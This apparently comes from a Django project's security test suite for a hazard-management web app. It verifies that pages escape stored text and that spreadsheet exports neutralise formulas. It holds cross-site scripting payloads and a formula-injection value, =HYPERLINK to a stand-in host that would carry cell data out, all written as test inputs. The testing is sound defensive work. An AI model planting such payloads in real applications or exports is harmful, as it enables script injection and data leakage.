"""What a person types is never run: stored scripts in every text field stay words on pages, paper, wall and in Excel.

Pages are parsed, not run: whatever became an element, an attribute or a script address would be found in the tree.
"""

import zipfile
from collections.abc import Iterator
from io import BytesIO
from typing import Any

import pytest
from bs4 import BeautifulSoup
from django.db import models
from django.test import Client
from python_calamine import CalamineWorkbook

from qianshao.core.ids import uuid7
from qianshao.core.sheets.workbook import safe
from qianshao.hazards import models as tables
from qianshao.hazards import services
from qianshao.hazards.models import Hazard
from qianshao.registry.models import Record
from tests.cast import Cast
from tests.conftest import ClientAs
from tests.hazards.ledger import PLAN, REPORT, find
from tests.hazards.test_risks import assess, point
from tests.matrix_hazards import danger, patrol_point, project, station

pytestmark = pytest.mark.django_db
MARK = "zq7"
#: Out of an element, out of an attribute in either quote, out of a script, into an address.
PAYLOADS = (
    f'"><script>{MARK}()</script>',
    f"'><img src=x onerror={MARK}()>",
    f"</script><svg onload={MARK}()>",
    f"javascript:{MARK}()",
)
FORMULA = '=HYPERLINK("http://x/?"&A1)'
#: Codes, numbers and states: no person types them.
_CODES = {
    "no", "state", "kind", "source", "department", "place_class", "check_item", "division_path", "proof", "site_code",
    "case", "treatment", "supervision_level", "tip_no", "trapped", "method", "colour", "keeper", "sort", "act",
    "code", "cause_kind", "cause_id", "step", "hazard_no", "note", "kind_code", "measure_kind",
    "quantity",
}  # fmt: skip
_TABLES = ("Hazard", "Extension", "Guard", "MajorReport", "TreatmentPlan", "Sighting", "PatrolPoint", "Whistle",
           "WhistleCall", "RiskSheet", "RiskAssessment", "RiskControl", "RiskCheck", "Project", "Milestone",
           "Station")  # fmt: skip


def text_fields(model: Any) -> Iterator[Any]:
    """Columns of free text; those with choices or of the machine are left out."""
    for field in model._meta.concrete_fields:
        is_text = isinstance(field, models.CharField | models.TextField)
        if is_text and not field.choices and not field.unique and field.name not in _CODES:
            yield field


def poison(payload: str) -> int:
    """Write the payload into every text column of every row; as after a hostile import. How many columns."""
    count = 0
    for name in _TABLES:
        model = getattr(tables, name)
        manager = model.objects
        rows = manager.unscoped("a test") if hasattr(manager, "unscoped") else manager.all()
        values = {field.name: payload[: field.max_length or 200] for field in text_fields(model)}
        count += len(values) if rows.update(**values) else 0
    Record.objects.unscoped("a test").update(name=payload[:80], address=payload[:120], owner_org=payload[:80])
    return count


def filled(cast: Cast, payload: str) -> list[str]:
    """One of everything the room keeps, each word of it hostile; the addresses that show them."""
    record = point(cast)
    duty, now = cast.actor("town_duty"), cast.now
    sheet = assess(cast, record)
    control = {"sort": "training", "words": payload, "person": payload, "record_id": record.pk}
    services.put_control(every_days=1, actor=duty, now=now, **control)
    hazard = find(cast, words=payload, place_name=payload, address=payload, unit_name=payload, risk_uid=record.uid)
    services.note_hazard(hazard_id=hazard.pk, words=payload, actor=duty, now=now)
    Hazard.objects.unscoped("a test").filter(pk=hazard.pk).update(grade=2)
    for verb, parts in ((services.put_report, REPORT), (services.put_plan, PLAN)):
        verb(hazard_id=hazard.pk, parts=dict.fromkeys(parts, payload), actor=cast.actor("village_cadre"), now=now)
    guard = {"cause": ("desk", str(uuid7())), "cause_label": payload, "person_label": payload}
    services.set_guard(hazard_id=hazard.pk, actor=duty, now=now, **guard)
    whistle = services.blow_whistle(
        case="urgent", matter=payload, place=payload, departments=["fire"], hazard_id=hazard.pk, actor=duty, now=now
    )
    services.note_whistle(whistle_id=whistle.pk, words=payload, actor=duty, now=now)
    seen, patrol = danger(cast, cast.village_a1)["sighting_id"], patrol_point(cast, cast.village_a1)["point_id"]
    works = project(cast, cast.village_a1)["project_id"]
    gauge = station(cast, cast.village_a1)["station_id"]
    assert sheet.pk
    return [
        "/hazards/", f"/hazards/{hazard.pk}/", f"/hazards/?q={payload[:20]}", "/dangers/", f"/dangers/{seen}/",
        "/patrol/", f"/patrol/{patrol}/", "/patrol/signs/", "/whistles/", f"/whistles/{whistle.pk}/",
        "/whistles/ranking/", f"/whistles/new/?hazard={hazard.pk}", "/risks/", f"/risks/{record.pk}/",
        f"/risks/{record.pk}/card/", "/journal/", "/map/",
        "/hazards/works/", f"/hazards/works/{works}/", f"/hazards/works/{works}/plan/", "/hazards/sensors/",
        f"/hazards/sensors/{gauge}/",
    ]  # fmt: skip


def faults(html: str) -> list[str]:
    """Elements, handlers and addresses that the payload made; nothing of it may be more than words."""
    tree, found = BeautifulSoup(html, "html.parser"), []
    for element in tree.find_all(True):
        text = element.string or ""
        if element.name == "script" and MARK in text and element.get("type") != "application/json":
            found.append(f"script: {text[:60]}")
        for name, value in element.attrs.items():
            words = " ".join(value) if isinstance(value, list) else str(value)
            if name.startswith("on") or (name in ("href", "src", "action") and words.startswith("javascript:")):
                found.append(f"{element.name} {name}={words[:60]}")
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_page_runs_what_was_typed(client_as: ClientAs, cast: Cast, payload: str) -> None:
    addresses = filled(cast, payload)
    assert poison(payload) > 40
    desk, shown = client_as("town_duty"), 0
    for address in addresses:
        answer = desk.get(address)
        assert answer.status_code in (200, 403), address
        html = answer.content.decode()
        assert faults(html) == [], address
        shown += MARK in html
        assert "script-src 'self'" in answer.get("Content-Security-Policy", "script-src 'self'")
    assert shown > 8


def test_the_check_itself_finds_what_is_not_escaped() -> None:
    for payload in PAYLOADS:
        assert faults(f'<p title="{payload}">{payload}</p><a href="{payload}">x</a>'), payload


def test_the_wall_and_the_maps_layers_carry_words_only(client_as: ClientAs, cast: Cast) -> None:
    filled(cast, PAYLOADS[0])
    poison(PAYLOADS[0])
    for key, address in (("wall", "/wall/desk/"), ("county_duty", "/")):
        answer = client_as(key).get(address, follow=True)
        assert answer.status_code == 200
        assert faults(answer.content.decode()) == []


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r="])
def test_no_cell_of_a_workbook_is_a_formula(start: str) -> None:
    assert not str(safe(f"{start}1+1")).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_workbooks_hold_text_where_a_formula_was_typed(client_as: ClientAs, cast: Cast) -> None:
    filled(cast, FORMULA)
    poison(FORMULA)
    for address in ("/hazards/export/?tab=open", "/risks/export/"):
        data = _bytes(client_as("county_lead"), address)
        rows = CalamineWorkbook.from_filelike(BytesIO(data)).get_sheet_by_index(0).to_python()
        cells = [cell for row in rows for cell in row]
        typed = [cell for cell in cells if "HYPERLINK" in str(cell)]
        assert typed, address
        assert not [cell for cell in typed if str(cell).startswith("=")], address
        assert b"<f>" not in _sheet_xml(data)


def _bytes(client: Client, address: str) -> bytes:
    answer: Any = client.get(address)
    assert answer.status_code == 200
    return b"".join(answer)


def _sheet_xml(data: bytes) -> bytes:
    with zipfile.ZipFile(BytesIO(data)) as book:
        return book.read("xl/worksheets/sheet1.xml")


def test_every_table_with_free_text_is_poisoned() -> None:
    left_out = {"HazardAct", "WhistleAct", "StandardSet", "KindSet", "LedgerNumber", "Reminder", "WhistleReminder",
                "SightingAct", "CheckIn", "GuardLook", "LinkSight", "LinkUse", "Reading"}  # fmt: skip
    assert set(tables.__all__) == {*_TABLES, *left_out}, "a new table: poison it, or say that verbs fill it"
